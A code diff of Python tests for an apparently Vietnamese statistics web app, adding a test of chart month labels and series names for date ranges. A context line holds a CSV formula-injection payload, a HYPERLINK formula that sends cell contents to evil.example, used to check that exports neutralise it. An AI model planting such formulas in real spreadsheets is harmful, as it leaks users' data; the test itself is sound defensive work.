@@ -187,3 +187,24 @@ def test_a_units_name_typed_like_a_formula_is_text_in_the_csv(login, clock):
     text = login("chuyenvien").get("/thong-ke/dung-han.csv", {"period": "2023"}).content.decode()
     rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
     assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "0", "0", "1"]
+
+
+def test_a_range_counts_its_own_days_in_each_months_bar_and_names_its_columns_for_two_years(login):
+    client = login("chuyenvien")
+    code = "2021-03-15..2021-05-20"
+    by_slug = charts(client.get("/thong-ke/", {"period": code}))
+    months = by_slug["doan-theo-thang"]
+    figures = evaluate(["incoming_delegations"], parse(code), None)["incoming_delegations"]["groups"]
+    assert months.labels == ["Tháng 3", "Tháng 4", "Tháng 5"]
+    # the key figures' count, not March from the 1st and May to the 31st
+    assert sum(series(months, "Đoàn vào 2021")) == figures.period
+    assert sum(series(months, "Đoàn vào 2020")) == figures.last_year
+    assert by_slug["vien-tro-theo-nam"].labels[-1] == "2021 (đến 20/5/2021)"
+    across = charts(client.get("/thong-ke/", {"period": "2020-06-01..2021-05-31"}))["doan-theo-thang"]
+    assert across.labels[0] == "06/2020" and across.labels[-1] == "05/2021"
+    assert [s.name for s in across.series] == [
+        "Đoàn vào",
+        "Đoàn vào cùng kỳ năm trước",
+        "Đoàn ra",
+        "Đoàn ra cùng kỳ năm trước",
+    ]
